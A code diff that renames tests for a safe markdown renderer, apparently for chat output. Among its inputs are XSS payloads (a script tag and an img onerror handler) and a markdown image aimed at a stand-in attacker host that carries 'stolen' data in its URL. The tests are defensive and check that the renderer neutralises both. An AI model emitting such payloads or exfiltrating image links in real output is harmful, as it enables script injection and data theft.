@@ -11,7 +11,7 @@ const show = (text: string) =>
     </MantineProvider>,
   ).container
 
-test('HTML is text and makes no element', () => {
+test('HTML is shown as text', () => {
   const page = show('<script>alert(1)</script>\n\nbefore <img src=x onerror=alert(1)> after <b>bold</b>')
   expect(page.querySelector('script, img, b')).toBeNull()
   expect(page).toHaveTextContent('<img src=x onerror=alert(1)>')
@@ -32,7 +32,7 @@ test.each([
   expect(page).toHaveTextContent('press me')
 })
 
-test('a link to a page opens beside this one and tells it nothing', () => {
+test('a link opens in a new tab without a referrer', () => {
   show('[docs](https://example.com/a?b=c)')
   const link = screen.getByRole('link', { name: 'docs' })
   expect(link).toHaveAttribute('href', 'https://example.com/a?b=c')
@@ -40,13 +40,13 @@ test('a link to a page opens beside this one and tells it nothing', () => {
   expect(link).toHaveAttribute('target', '_blank')
 })
 
-test('a picture is told, and never loaded', () => {
+test('an image is described, and not loaded', () => {
   const page = show('![a secret chart](https://evil.example/?stolen=words)')
   expect(page.querySelector('img')).toBeNull()
-  expect(page).toHaveTextContent('[picture not loaded: a secret chart]')
+  expect(page).toHaveTextContent('[image not loaded: a secret chart]')
 })
 
-test('code is shown with its language, unchanged, and copied whole', async () => {
+test('code is shown with its language, unchanged, and copied completely', async () => {
   const user = userEvent.setup()
   show('```python\nprint("<b>")\n\nx = 1  # & more\n```')
   expect(screen.getByText('python')).toBeVisible()
@@ -54,18 +54,18 @@ test('code is shown with its language, unchanged, and copied whole', async () =>
   expect(await navigator.clipboard.readText()).toBe('print("<b>")\n\nx = 1  # & more')
 })
 
-test('code whose end is still on its way, and code without a language, are code already', () => {
+test('unfinished code, and code without a language, are code', () => {
   const page = show('```\nhalf a line')
   expect(page.querySelector('pre')).toHaveTextContent('half a line')
 })
 
-test('tables and lists are what they are', () => {
+test('tables and lists are rendered', () => {
   show('| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two')
   expect(screen.getByRole('table')).toBeVisible()
   expect(screen.getAllByRole('listitem')).toHaveLength(2)
 })
 
-test('headings stand below those of the page, and a task is no control', () => {
+test('headings are below those of the page, and a task is no control', () => {
   const page = show('# Title\n\n- [x] first\n- [ ] second')
   expect(screen.getByRole('heading', { level: 3, name: 'Title' })).toBeVisible()
   expect(page.querySelector('input, h1')).toBeNull()
